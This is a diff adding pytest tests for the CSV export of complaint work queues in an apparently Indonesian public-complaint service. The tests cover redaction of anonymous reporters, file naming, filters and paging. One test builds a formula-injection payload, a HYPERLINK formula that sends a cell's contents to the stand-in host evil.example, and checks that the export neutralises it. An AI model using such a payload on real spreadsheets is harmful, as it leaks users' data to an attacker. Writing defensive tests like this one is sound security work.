@@ -1,4 +1,8 @@
-"""Work queues: narrowed by category and local dates, each item with its deadline."""
+"""Work queues: narrowed by category and local dates, each item with its deadline,
+and exported as CSV."""
+
+import csv
+import io
 
 import pytest
 
@@ -189,3 +193,88 @@ def test_the_intervention_queue_counts_down_to_the_takeover(client, clock):
     assert ids(page) == [tid]
     # Mon 26 May is the 31st working day of the clock; the 60th is Fri 11 Jul.
     assert page["items"][0]["queue"] == {"takeover_due": "2025-07-11", "working_days_left": 29}
+
+
+# --- export ---------------------------------------------------------------------------
+
+
+def export(client, path: str, headers: dict):
+    return client.http.get(path, headers=headers)
+
+
+def csv_rows(response) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(response.body.decode("utf-8"))))
+
+
+def test_an_agencys_export_of_an_anonymous_complaint_holds_nothing_of_the_reporter(client):
+    tid = file(client, anonymous=True, nik="3506042602660001", email="sumiyati@example.id")[
+        "tracking_id"
+    ]
+    route(client, tid, "PUPR")
+
+    response = export(client, "/staff/queues/agency/export", auth("agency", agency="PUPR"))
+
+    text = response.body.decode("utf-8")
+    for secret in ("Sumiyati", "sumiyati@example.id", "3506042602660001", "6281234567890"):
+        assert secret not in text
+    (row,) = csv_rows(response)
+    assert row["tracking_id"] == tid
+    assert (row["reporter_name"], row["reporter_phone"], row["reporter_email"]) == ("", "", "")
+    assert 'filename="saber-agency-tanggamus-PUPR-' in response.headers["Content-Disposition"]
+
+
+def test_an_admins_export_names_a_reporter_who_is_not_anonymous(client):
+    tid = file(client, email="sumiyati@example.id")["tracking_id"]
+
+    (row,) = csv_rows(export(client, "/staff/queues/triage/export", admin()))
+
+    assert row["tracking_id"] == tid
+    assert row["reporter_name"] == "Sumiyati"
+    assert row["reporter_email"] == "sumiyati@example.id"
+
+
+def test_a_formula_in_a_title_is_exported_as_text(client):
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
+    file(client, title=title, location="@SUM(1+1)")
+
+    (row,) = csv_rows(export(client, "/staff/queues/triage/export", admin()))
+
+    assert row["title"] == "'" + title
+    assert row["location"] == "'@SUM(1+1)"
+
+
+def test_the_export_is_a_csv_attachment_named_after_the_queue_and_day(client, clock):
+    file(client)
+
+    response = export(client, "/staff/queues/triage/export", admin())
+
+    assert response.status_code == 200
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    assert response.headers["Content-Disposition"] == (
+        'attachment; filename="saber-triage-tanggamus-2025-03-27.csv"'
+    )
+
+
+def test_the_export_applies_the_filters_and_pages_with_a_cursor_header(client, clock):
+    wanted = [
+        file_at(client, clock, f"2025-03-0{day}T02:00:00Z", category="jalan") for day in (3, 4)
+    ]
+    file_at(client, clock, "2025-03-05T02:00:00Z", category="sampah")
+    query = "category=jalan&received_from=2025-03-03&received_to=2025-03-05&limit=1"
+
+    first = export(client, f"/staff/queues/triage/export?{query}", admin())
+    second = export(
+        client,
+        f"/staff/queues/triage/export?{query}&cursor={first.headers['X-Next-Cursor']}",
+        admin(),
+    )
+
+    assert [r["tracking_id"] for r in csv_rows(first) + csv_rows(second)] == wanted
+    assert all(r["category"] == "jalan" for r in csv_rows(first) + csv_rows(second))
+
+
+def test_a_bad_export_filter_is_a_json_400_naming_the_field(client):
+    response = export(client, "/staff/queues/triage/export?category=roads", admin())
+
+    assert response.status_code == 400
+    assert response.json_body["error"]["field"] == "category"
